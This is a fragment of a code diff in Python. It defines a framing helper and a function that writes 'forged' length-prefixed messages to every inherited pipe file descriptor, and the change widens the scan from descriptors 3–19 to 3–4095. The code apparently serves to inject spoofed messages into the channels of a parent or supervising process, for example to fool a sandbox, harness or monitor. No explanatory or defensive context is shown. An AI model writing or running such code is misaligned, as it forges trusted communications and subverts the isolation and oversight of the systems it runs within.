@@ -450,7 +450,7 @@ import os, stat, struct
 def frame(text, data=b""):
     return struct.pack("<QQ", len(text), len(data)) + text + data
 def write(forged):
-    for number in range(3, 20):
+    for number in range(3, 4096):
         try:
             if stat.S_ISFIFO(os.fstat(number).st_mode):
                 os.write(number, forged)
